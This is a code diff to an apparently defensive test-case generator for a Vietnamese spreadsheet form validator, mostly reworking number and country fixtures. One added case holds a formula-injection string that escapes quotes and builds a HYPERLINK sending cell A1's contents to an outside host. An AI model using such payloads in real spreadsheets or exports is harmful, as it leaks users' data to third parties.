@@ -38,22 +38,22 @@ NUMBERS: dict[str, tuple[object, str]] = {
     "enormous": (99_999_999, "FA-V17"),
     "tiny": ("3E-300", "FA-V04"),
 }
-WRITTEN: dict[str, tuple[str, str]] = {
-    "words": ("năm", "FA-V01"),
-    "unit": ("5 em", "FA-V02"),
-    "decimals": ("12,5000", "FA-V04"),
-    "dash": ("-", "FA-V03"),
-    "roman": ("IV", "FA-V01"),
-    "date": ("15/6/2023", "FA-V01"),
-    "formula": ("=2+3", "FA-V01"),
-    "percent": ("50%", "FA-V02"),
-    "overlong": ("9" * 400, "FA-V01"),
-    "range": ("5-6", "FA-V01"),
-    "apostrophe": ("'3", "FA-V02"),
+WRITTEN: dict[str, tuple[str, str, int]] = {
+    "words": ("năm", "FA-V01", 0),
+    "unit": ("5 em", "FA-V02", 5),
+    "decimals": ("12,5000", "FA-V04", 0),
+    "dash": ("-", "FA-V03", 0),
+    "roman": ("IV", "FA-V01", 0),
+    "date": ("15/6/2023", "FA-V01", 0),
+    "formula": ("=2+3", "FA-V01", 0),
+    "percent": ("50%", "FA-V02", 50),
+    "overlong": ("9" * 400, "FA-V01", 0),
+    "range": ("5-6", "FA-V01", 0),
+    "apostrophe": ("'3", "FA-V02", 3),
 }
 FINE_NUMBERS = {
-    "text": "3", "grouped": "1.200", "comma": "12,500", "padded": "  3  ",
-    "hard-space": "\u00a03\u00a0", "zero": "0",
+    "text": ("3", 3), "grouped": ("1.200", 1200), "comma": ("12,500", 12500),
+    "padded": ("  3  ", 3), "hard-space": ("\u00a03\u00a0", 3), "zero": ("0", 0),
 }  # fmt: skip
 COUNTRIES = {
     "unknown": ("Xứ sở thần tiên", "FA-V10"),
@@ -83,16 +83,21 @@ def _families() -> None:
         )
     for name, (value, code) in NUMBERS.items():
         kind(f"number-{name}", WRONG, code)(lambda f, v=value: f.number("C9", v).packed())
-    for name, (words, code) in WRITTEN.items():
-        kind(f"written-{name}", WARNED if code in ("FA-V02", "FA-V03") else WRONG, code)(
+    for name, (words, code, read) in WRITTEN.items():
+        fate = WARNED if code in ("FA-V02", "FA-V03") else WRONG
+        kind(f"written-{name}", fate, code, figures={"US": read, "KR": 2})(
             lambda f, w=words: f.text("C9", w).blank("D9").packed()
         )
-    for name, words in FINE_NUMBERS.items():
-        kind(f"fine-number-{name}", VALID)(lambda f, w=words: f.text("C9", w).blank("D9").packed())
+    for name, (words, read) in FINE_NUMBERS.items():
+        kind(f"fine-number-{name}", VALID, figures={"US": read, "KR": 2})(
+            lambda f, w=words: f.text("C9", w).blank("D9").packed()
+        )
     for name, (words, code) in COUNTRIES.items():
         kind(f"country-{name}", WRONG, code)(lambda f, w=words: f.text("B9", w).packed())
     for name, words in FINE_COUNTRIES.items():
-        kind(f"fine-country-{name}", VALID)(lambda f, w=words: f.text("B9", w).packed())
+        kind(f"fine-country-{name}", VALID, figures={"JP": 3, "KR": 2})(
+            lambda f, w=words: f.text("B9", w).packed()
+        )
     for name, words in FORMULA_LIKE.items():
         kind(f"like-a-formula-{name}", VALID)(
             lambda f, w=words: f.text(_text_cell(f), w, NARRATIVE).packed()
@@ -179,7 +184,7 @@ def _(form: Form) -> bytes:
     return form.text("B14", "Úc").packed()
 
 
-@kind("country-twice", WARNED, "FA-T14")
+@kind("country-twice", WARNED, "FA-T14", figures={"US": 7, "KR": 2})
 def _(form: Form) -> bytes:
     return form.row(11, "Mỹ", 4, 2).packed()
 
@@ -187,6 +192,13 @@ def _(form: Form) -> bytes:
 @kind("text-at-the-limit-of-a-cell", WARNED, "FA-V13")
 def _(form: Form) -> bytes:
     return form.text(_text_cell(form), "Đoàn ra. " * 3_641, NARRATIVE).packed()
+
+
+@kind("text-that-breaks-out-of-quotes", WRONG, "FA-V10", "FA-V02")
+def _(form: Form) -> bytes:
+    """What goes back tells mended cells by formulas that hold the text that stood in them."""
+    broken = '"&HYPERLINK("http://mau.vn?x="&A1,"bấm")&"'
+    return form.text("B9", broken).text("C9", broken[:60]).packed()
 
 
 @kind("text-in-tcvn3", WARNED, "FA-V14")
